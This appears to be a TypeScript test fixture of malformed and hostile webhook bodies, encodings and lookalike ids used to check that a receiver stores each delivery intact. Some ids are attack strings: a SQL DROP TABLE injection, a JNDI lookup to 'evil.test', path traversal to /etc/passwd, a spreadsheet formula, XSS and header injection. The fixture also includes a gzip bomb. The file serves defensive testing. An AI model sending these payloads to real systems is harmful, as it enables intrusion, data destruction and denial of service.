/** What authentic deliveries may hold to break those who read them, as data. */

import { gzipSync } from "node:zlib";
import { job } from "./row.ts";

const nested = (depth: number): string => `${"[".repeat(depth)}${"]".repeat(depth)}`;

/** Bodies: each is answered 200, kept as it came, and breaks nothing. */
export const contents: Readonly<Record<string, string | Uint8Array>> = {
  "JSON that breaks off": '{"event":"job_finished","data":',
  "a comma too many": '{"event":"job_finished",}',
  "single quotes": "{'event':'job_finished'}",
  comments: '{"event":/* c */"job_finished"}',
  "two values": "{}{}",
  "white space": " \r\n\t ",
  "a byte order mark": `\uFEFF${job(7)}`,
  "a list": "[]",
  null: "null",
  "a number": "1",
  "a name twice": '{"event":"job_finished","event":"other","data":{"job_id":1,"job_id":2}}',
  "depth 65": nested(65),
  "depth 5,000": nested(5000),
  "depth 500,000": nested(500_000),
  "eighty thousand names": `{${Array.from({ length: 80_000 }, (_, n) => `"k${n}":1`).join(",")}}`,
  "a million commas": ",".repeat(1_000_000),
  "a million spaces": " ".repeat(1_000_000),
  "a number of 900,000 digits": `{"event":"job_finished","data":{"job_id":${"9".repeat(900_000)}}}`,
  "names of prototypes": '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},"toString":1}',
  "an id of prototypes": job('"__proto__"'),
  "an id that no double holds": job("9007199254740993"),
  "an id that is too large": job("1e400"),
  "an id that is a list": job("[1]"),
  "an id that is empty": job('""'),
  "an id of 900,000 letters": job(`"${"i".repeat(900_000)}"`),
  "an id with lines and a header": job('"\\r\\nSet-Cookie: a=b"'),
  "an id that is a path": job('"../../etc/passwd"'),
  "an id that is SQL": job(`"'; DROP TABLE webhook_inbox_events; --"`),
  "an id that is a lookup": job('"${jndi:ldap://evil.test/a}"'),
  "an id that is a formula": job('"=cmd|calc!A0"'),
  "an id of escapes": job('"%0d%0aSet-Cookie:%20a=b"'),
  "an id that turns the reading direction": job('"\u202e\u200b\u2066"'),
  "a time that no calendar has": job('1,"created_at":"2026-13-45","finished_at":1e18,"at":-1'),
  "an id that is a script": job('"<script>alert(1)</script>"'),
  "an id with NUL": job('"a\\u0000b"'),
  "half of a pair of surrogates": job('"\\ud800"'),
  "bytes that are no UTF-8": Uint8Array.from([0x7b, 0x22, 0xff, 0xc0, 0x80, 0x22, 0x7d]),
  "a type of 900,000 letters": `{"event":"${"e".repeat(900_000)}","data":{}}`,
  "one string of 900,000 letters": `"${"x".repeat(900_000)}"`,
  "a garbage byte at the end": `${job(7)}\u0001`,
};

interface Medium {
  readonly type?: string;
  readonly coding?: string;
  readonly body: string | Uint8Array;
}

const zipped = gzipSync(job(7));
const inGzip = (body: Uint8Array): Medium => ({ coding: "gzip", body });

/** Authentic deliveries whose content is not what it is said to be, or coded in some way: taken, and kept as on the wire. */
export const media: Readonly<Record<string, Medium>> = {
  "JSON as text": { type: "text/plain", body: job(7) },
  "JSON in capitals": { type: "APPLICATION/JSON ;Charset=UTF-8", body: job(7) },
  "JSON after a tab": { type: "\tapplication/json", body: job(7) },
  "JSON as XML": { type: "text/xml", body: job(7) },
  "JSON as a picture": { type: "image/png", body: job(7) },
  "a type that is none": { type: ";;;=", body: job(7) },
  "a charset that nobody has": { type: "application/json; charset=utf-7", body: job(7) },
  "a charset of two bytes": { type: "application/json; charset=utf-16le", body: job(7) },
  "a charset of one byte": { type: "application/json; charset=iso-8859-1", body: job(7) },
  "parts without a boundary": { type: "multipart/form-data", body: job(7) },
  "fifteen hundred parts that do not end": {
    type: "multipart/form-data; boundary=x",
    body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'.repeat(1500),
  },
  "a form of twenty thousand pairs": {
    type: "application/x-www-form-urlencoded",
    body: "a=1&".repeat(20_000),
  },
  "a form nested a thousand deep": {
    type: "application/x-www-form-urlencoded",
    body: `payload=%zz&a${"[b]".repeat(1000)}=1&__proto__[x]=1`,
  },
  "gzip that is cut off": inGzip(zipped.subarray(0, -10)),
  "gzip with another sum": inGzip(Buffer.concat([zipped.subarray(0, -8), Buffer.alloc(8)])),
  "gzip with garbage behind it": inGzip(Buffer.concat([zipped, Buffer.from("garbage")])),
  "gzip twice in a row": inGzip(Buffer.concat([zipped, zipped])),
  "gzip that is none": inGzip(Buffer.from(job(7))),
  "a bomb of 50 MiB in gzip": inGzip(gzipSync(Buffer.alloc(50 * 1024 * 1024))),
  "gzip in gzip": { coding: "gzip, gzip", body: gzipSync(zipped) },
  "a coding that nobody has": { coding: "x-unknown", body: job(7) },
  "a coding that is not known here": { coding: "zstd", body: job(7) },
  "no coding, by its name": { coding: "identity", body: job(7) },
};

/** Ids that look alike, or that careless readers take for each other: each body is kept, and none of them in another's place. */
export const lookalikes: Readonly<Record<string, readonly string[]>> = {
  "numbers that no double tells apart": ["9007199254740992", "9007199254740993"],
  "ways to write a number": ["1", "1.0", "1e0", '"1"', "-0", "0", "1e400", "1e401"],
  "composed and decomposed letters": ['"\u00e9"', '"e\u0301"'],
  "letters that look alike": ['"a"', '"\u0430"', '"A"', '"a\u200b"', '"a\u202e"', '"a "', '" a"'],
  "letters that other alphabets fold": ['"i"', '"I"', '"\u0130"', '"\u0131"'],
  "ends that a column cuts off": [`"${"x".repeat(3000)}1"`, `"${"x".repeat(3000)}2"`],
  "what is not there": ['""', "null", "[]", "{}", "false", "0", '"null"', '"undefined"', '"0"'],
  "names of prototypes": ['"__proto__"', '"constructor"', '"toString"', '"hasOwnProperty"'],
};
